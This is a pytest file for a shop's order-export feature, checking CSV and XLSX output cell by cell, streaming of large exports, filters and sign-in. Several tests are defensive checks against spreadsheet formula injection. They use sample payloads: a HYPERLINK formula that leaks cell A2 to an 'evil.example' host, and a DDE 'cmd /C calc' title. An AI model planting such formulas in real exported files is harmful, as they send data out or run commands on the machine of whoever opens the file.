"""CSV and XLSX exports of the filtered orders: every cell compared with the database, the
field columns of several templates and versions, formulas kept as text, and streaming."""

import csv
import io
import logging
import re
import uuid
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import phonenumbers
import pytest
from openpyxl import load_workbook

from models.activities.pickup import PickupPoint
from models.activities.template import FormTemplateVersion
from models.customers.customer import Customer
from models.exports.table import BATCH, export_table
from models.orders.lifecycle import Actor, transition_order
from models.orders.order import Order, OrderLine
from models.ratings.rating import Rating
from tests.factories import make_product, make_template, order_for
from tests.helpers import EN, csrf_token_from

DOWNLOAD_LINK = re.compile(r'href="(/board/exports/\d+/download)"')
STATUS = {"pending": "Pending", "confirmed": "Confirmed", "cancelled": "Cancelled"}
PAYMENT = {"unpaid": "Unpaid", "paid": "Paid"}
FIXED = [
    "Order number",
    "Activity",
    "Form version",
    "Status",
    "Payment",
    "Placed",
    "Last change",
    "Customer",
    "Phone",
    "Pickup point",
    "Delivery address",
    "Items",
    "Subtotal (yuan)",
    "Delivery fee (yuan)",
    "Total (yuan)",
    "Rating (stars)",
    "Shop replied",
]


@pytest.fixture(autouse=True)
def export_dir(app, tmp_path):
    """Prepared export files go to a temporary folder, not instance/exports."""
    app.config["EXPORT_DIR"] = str(tmp_path / "exports")
    return tmp_path / "exports"


def download_xlsx(client, query: str):
    """Prepare the XLSX export of the board filter `query` as a user does (the job runs at
    once: tests run Huey in immediate mode), then follow the status page's download link."""
    page = f"/board/export.xlsx?{query}"
    started = client.post(page, data={"csrf_token": csrf_token_from(client, page)}, headers=EN)
    assert started.status_code == 303, started.status_code
    status_page = client.get(started.headers["Location"], headers=EN).get_data(as_text=True)
    link = DOWNLOAD_LINK.search(status_page)
    assert link, status_page
    return client.get(link.group(1), headers=EN)


def contact():
    return [
        {"name": "name", "type": "short_text", "label": "Name"},
        {"name": "phone", "type": "phone", "label": "Phone"},
    ]


@pytest.fixture
def fruit_and_cleaning(app, staff):
    """Fruit (two versions: "remark" relabelled, "size" dropped, "day" added) and Cleaning."""
    apple = make_product(50, name="苹果", price=550)
    pear = make_product(50, name="梨", price=300)
    items = {
        "name": "items",
        "type": "products",
        "label": "Fruit",
        "products": [{"product_id": apple.id}, {"product_id": pear.id}],
    }
    fruit = make_template(
        title="Fruit",
        fields=[
            *contact(),
            items,
            {"name": "intro", "type": "heading", "label": "More"},
            {"name": "remark", "type": "long_text", "label": "Remark"},
            {"name": "size", "type": "choice", "label": "Size", "options": ["S", "L"]},
        ],
    )
    fruit_v1 = fruit.publish()
    fruit.draft = {
        "fields": [
            *contact(),
            items,
            {"name": "remark", "type": "long_text", "label": "Note"},
            {"name": "day", "type": "date", "label": "Day"},
        ]
    }
    fruit.save()
    fruit_v2 = fruit.publish()
    cleaning = make_template(
        title="Cleaning",
        kind="service",
        fields=[
            *contact(),
            {
                "name": "slot",
                "type": "time_slot",
                "label": "Slot",
                "slots": [{"id": "mon-am", "label": "Mon 9–11", "capacity": 3}],
            },
            {"name": "agree", "type": "consent", "label": "Agree"},
            {"name": "rooms", "type": "number", "label": "Rooms", "step": 0.5},
        ],
    ).publish()
    gate = PickupPoint.create(name="East gate")
    orders = [
        order_for(
            fruit_v1,
            [(apple, 2), (pear, 1)],
            name="王芳",
            phone="+8613800001111",
            pickup_point=gate,
            answers={
                "name": "王芳",
                "phone": "+8613800001111",
                "items": {str(apple.id): 2, str(pear.id): 1},
                "remark": '=HYPERLINK("http://evil")',
                "size": "L",
            },
        ),
        order_for(
            fruit_v2,
            [(pear, 3)],
            name='Emily, "Em" Chen',
            phone="+12125550100",
            delivery_fee=800,
            address="幸福小区 3 栋\n1201 室",
            answers={"name": "Emily", "items": {str(pear.id): 3}, "day": "2026-06-01"},
        ),
        order_for(
            cleaning,
            [],
            name="李娜",
            phone="+8613800002222",
            answers={"name": "李娜", "slot": "mon-am", "agree": True, "rooms": "2.5"},
        ),
    ]
    transition_order(orders[0], "confirmed", Actor.of_user(staff))
    transition_order(orders[2], "cancelled", Actor.of_user(staff))
    Order.update(payment_status="paid").where(Order.id == orders[1].id).execute()
    Rating.create(order=orders[0].id, stars=4, reply="Thanks", replied_at=orders[0].created_at)
    Rating.create(order=orders[1].id, stars=2)  # not replied to; orders[2] is not rated
    return {"versions": (fruit_v1, fruit_v2, cleaning), "orders": orders}


EXPECTED_FIELDS = [
    ("Fruit", "name", "Name"),
    ("Fruit", "phone", "Phone"),
    ("Fruit", "items", "Fruit"),
    ("Fruit", "remark", "Note"),
    ("Fruit", "day", "Day"),
    ("Fruit", "size", "Size"),  # only in version 1: after the newest version's fields
    ("Cleaning", "name", "Name"),
    ("Cleaning", "phone", "Phone"),
    ("Cleaning", "slot", "Slot"),
    ("Cleaning", "agree", "Agree"),
    ("Cleaning", "rooms", "Rooms"),
]


def shop_time(stored):
    zone = ZoneInfo("Asia/Shanghai")
    return stored.replace(tzinfo=UTC).astimezone(zone).replace(tzinfo=None, microsecond=0)


def phone_text(e164):
    number = phonenumbers.parse(e164)
    national = phonenumbers.region_code_for_number(number) == "CN"
    style = phonenumbers.PhoneNumberFormat
    return phonenumbers.format_number(number, style.NATIONAL if national else style.INTERNATIONAL)


def answer(spec, value, product_names):
    """The export's text for one answer, written out by type for the few types used here."""
    if value in (None, "", [], {}):
        return ""
    kind = spec["type"]
    if kind == "products":
        return "; ".join(f"{product_names[int(p)]} ×{q}" for p, q in value.items())
    if kind == "phone":
        return phone_text(value)
    if kind == "time_slot":
        return next(s["label"] for s in spec["slots"] if s["id"] == value)
    if kind == "consent":
        return "Yes" if value else "No"
    return str(value)


def expected_rows() -> list[list]:
    """Every order as the export should show it, read back from the database."""
    rows = []
    for order in Order.select().order_by(Order.id):
        version = FormTemplateVersion.get_by_id(order.template_version_id)
        customer = Customer.get_by_id(order.customer_id)
        lines = list(OrderLine.select().where(OrderLine.order == order.id).order_by(OrderLine.id))
        names = {line.product_id: line.name for line in lines}
        specs = {spec["name"]: spec for spec in version.fields}
        fields = [
            answer(specs[name], order.answers.get(name), names)
            if title == version.template.title and name in specs
            else ""
            for title, name, _ in EXPECTED_FIELDS
        ]
        point = PickupPoint.get_or_none(PickupPoint.id == order.pickup_point_id)
        rating = Rating.get_or_none(Rating.order == order.id)
        rows.append(
            [
                order.number,
                version.template.title,
                version.number,
                STATUS[order.status],
                PAYMENT[order.payment_status],
                shop_time(order.created_at),
                shop_time(order.updated_at),
                customer.name,
                phone_text(customer.phone),
                point.name if point else "",
                order.address,
                "; ".join(f"{line.name} ×{line.quantity}" for line in lines),
                Decimal(order.subtotal) / 100,
                Decimal(order.delivery_fee) / 100,
                Decimal(order.total) / 100,
                rating.stars if rating else "",
                ("Yes" if rating.replied_at else "No") if rating else "",
                *fields,
            ]
        )
    return rows


def header() -> list[str]:
    return FIXED + [f"{title} · {label}" for title, _, label in EXPECTED_FIELDS]


def test_the_xlsx_holds_every_order_cell_for_cell(client, staff, login, fruit_and_cleaning):
    login(staff)
    response = download_xlsx(client, "created=all")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == header()
    expected = expected_rows()
    assert len(rows) == 1 + len(expected) == 4
    for got, want in zip(rows[1:], expected, strict=True):
        money = slice(12, 15)
        assert [Decimal(str(v)) for v in got[money]] == want[money]
        assert sheet.cell(2, 15).number_format == "0.00"
        got = ["" if v is None else v for v in got]
        assert got[:12] + got[15:] == want[:12] + want[15:]
    formula = rows[1][header().index("Fruit · Note")]
    assert formula == '=HYPERLINK("http://evil")'
    assert sheet.cell(2, header().index("Fruit · Note") + 1).data_type == "s"  # text, not a formula


def test_the_csv_holds_every_order_as_text(client, staff, login, fruit_and_cleaning):
    login(staff)
    response = client.get("/board/export.csv?created=all", headers=EN)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for Excel
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == header()

    def text(value):
        if isinstance(value, datetime):
            return value.strftime("%Y-%m-%d %H:%M:%S")
        if isinstance(value, Decimal):
            return f"{value:.2f}"
        value = str(value)
        return "'" + value if value[:1] in ("=", "+", "-", "@") else value

    assert rows[1:] == [[text(v) for v in row] for row in expected_rows()]
    assert rows[1][header().index("Fruit · Note")] == '\'=HYPERLINK("http://evil")'


def test_an_export_follows_the_filter(client, staff, login, fruit_and_cleaning):
    fruit_v1, _, _cleaning = fruit_and_cleaning["versions"]
    login(staff)
    response = client.get(f"/board/export.csv?template={fruit_v1.template_id}", headers=EN)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [int(r[0]) for r in rows[1:]] == [o.number for o in fruit_and_cleaning["orders"][:2]]
    assert rows[0] == [*FIXED, "Name", "Phone", "Fruit", "Note", "Day", "Size"]  # one template

    response = download_xlsx(client, "status=cancelled")
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == [fruit_and_cleaning["orders"][2].number]
    assert list(rows[0]) == [*FIXED, "Name", "Phone", "Slot", "Agree", "Rooms"]


def many_orders(version, count: int) -> None:
    """`count` orders written straight into the tables, fast (the export only reads them)."""
    customer = Customer.create(name="批量", phone="+8613800009999", phone_last4="9999")
    apple = make_product(None, name="苹果", price=550)
    rows = [
        {
            "number": 50_000 + i,
            "tracking_token": uuid.uuid4().hex,
            "submission_key": uuid.uuid4().hex,
            "template": version.template_id,
            "template_version": version.id,
            "customer": customer.id,
            "subtotal": 550 * (1 + i % 3),
            "total": 550 * (1 + i % 3),
            "answers": {"name": f"批量 {i}", "remark": f"第 {i} 单"},
        }
        for i in range(count)
    ]
    Order.insert_many(rows).execute()
    ids = [o.id for o in Order.select(Order.id).where(Order.number >= 50_000).order_by(Order.id)]
    OrderLine.insert_many(
        {
            "order": order_id,
            "product": apple.id,
            "name": "苹果",
            "unit_price": 550,
            "quantity": 1 + i % 3,
        }
        for i, order_id in enumerate(ids)
    ).execute()


def test_a_large_csv_export_is_streamed_in_batches(client, staff, login, fruit_and_cleaning):
    count = 2_000
    many_orders(fruit_and_cleaning["versions"][1], count)
    login(staff)
    response = client.get("/board/export.csv?created=all", headers=EN, buffered=False)
    assert response.status_code == 200
    assert response.is_streamed
    chunks = list(response.response)
    response.close()
    assert len(chunks) >= (count + 3) // BATCH + 1  # the header, then one chunk per batch
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == 1 + count + 3
    numbers = [int(row[0]) for row in rows[1:]]
    assert numbers == sorted(numbers) and len(set(numbers)) == count + 3
    last = rows[-1]
    assert last[header_index(rows[0], "Fruit · Note")] == f"第 {count - 1} 单"
    assert last[11] == f"苹果 ×{1 + (count - 1) % 3}"


def test_orders_placed_while_an_export_streams_are_left_out(
    client, staff, login, fruit_and_cleaning
):
    fruit_v2 = fruit_and_cleaning["versions"][1]
    login(staff)
    response = client.get("/board/export.csv?created=all", headers=EN, buffered=False)
    chunks = iter(response.response)
    first = next(chunks)  # the header: the columns are fixed now
    template = fruit_v2.template
    template.draft = {"fields": [*contact(), {"name": "gift", "type": "short_text"}]}
    template.save()
    late = order_for(template.publish(), [(make_product(5), 1)], answers={"gift": "yes"})
    rows = list(csv.reader(io.StringIO(b"".join([first, *chunks]).decode("utf-8-sig"))))
    response.close()
    assert [int(row[0]) for row in rows[1:]] == [o.number for o in fruit_and_cleaning["orders"]]
    assert late.number not in [int(row[0]) for row in rows[1:]]


def header_index(header_row, name):
    return header_row.index(name)


def test_a_large_xlsx_export_has_every_row(client, staff, login, fruit_and_cleaning):
    count = 2_000
    many_orders(fruit_and_cleaning["versions"][1], count)
    login(staff)
    response = download_xlsx(client, "created=all")
    sheet = load_workbook(io.BytesIO(response.data), read_only=True).active
    numbers = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(numbers) == count + 3 and numbers == sorted(numbers)


@pytest.mark.parametrize("path", ["/board/export.csv", "/board/export.xlsx"])
def test_anonymous_visitors_are_sent_to_sign_in(client, fruit_and_cleaning, path):
    token = csrf_token_from(client, "/login")
    response = client.get(path + "?created=all", headers={"X-CSRFToken": token})
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def formula_labels(app):
    """Two activities whose title and field label an admin typed as formulas."""
    apple = make_product(5, name="Apple")
    fields = [
        *contact(),
        {
            "name": "items",
            "type": "products",
            "label": "+Items",
            "products": [{"product_id": apple.id}],
        },
        {"name": "remark", "type": "short_text", "label": LABEL},
    ]
    evil = make_template(title=TITLE, fields=fields).publish()
    plain = make_template(title="Plain", kind="service", fields=contact()).publish()
    order_for(evil, [(apple, 1)], answers={"name": "Ann", "remark": "-1"})
    order_for(plain, [], answers={"name": "Bo"})
    return {"evil": evil, "plain": plain}


@pytest.mark.parametrize("several", [False, True], ids=["one activity", "two activities"])
def test_a_label_typed_as_a_formula_stays_text_in_the_csv_header(
    client, staff, login, formula_labels, several
):
    login(staff)
    query = "created=all" if several else f"template={formula_labels['evil'].template_id}"
    response = client.get(f"/board/export.csv?{query}", headers=EN)
    header_row = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    fields = header_row[len(FIXED) :]
    label, items = (f"{TITLE} · {LABEL}", f"{TITLE} · +Items") if several else (LABEL, "+Items")
    assert "'" + label in fields and "'" + items in fields
    assert not [cell for cell in header_row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("several", [False, True], ids=["one activity", "two activities"])
def test_a_label_typed_as_a_formula_stays_text_in_the_xlsx(
    client, staff, login, formula_labels, several
):
    login(staff)
    query = "created=all" if several else f"template={formula_labels['evil'].template_id}"
    sheet = load_workbook(io.BytesIO(download_xlsx(client, query).data)).active
    label = f"{TITLE} · {LABEL}" if several else LABEL
    header_cells = {cell.value: cell for cell in sheet[1]}
    assert label in header_cells
    for value, cell in header_cells.items():
        assert cell.data_type == "s", value  # not "f": no formula anywhere in the header
    assert header_cells[label].quotePrefix  # Excel keeps it text when the cell is edited
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, cell.value


def test_ratings_come_in_one_query_per_batch(app, fruit_and_cleaning, caplog):
    """The rating columns read a batch's ratings at once: the queries do not grow with the
    orders (peewee logs each query it runs)."""

    def rating_queries() -> list[str]:
        caplog.clear()
        with app.test_request_context(), caplog.at_level(logging.DEBUG, logger="peewee"):
            rows = list(export_table(Order.select()).rows)
        assert [row[15:17] for row in rows[:3]] == [[4, "Yes"], [2, "No"], ["", ""]]
        return [r.getMessage() for r in caplog.records if '"rating"' in r.getMessage()]

    assert len(rating_queries()) == 1
    product = make_product(50)
    for stars in (1, 5, 3, 5):
        order = order_for(fruit_and_cleaning["versions"][1], [(product, 1)], name="More")
        Rating.create(order=order.id, stars=stars)
    assert len(rating_queries()) == 1  # seven orders, four more rated: still one query
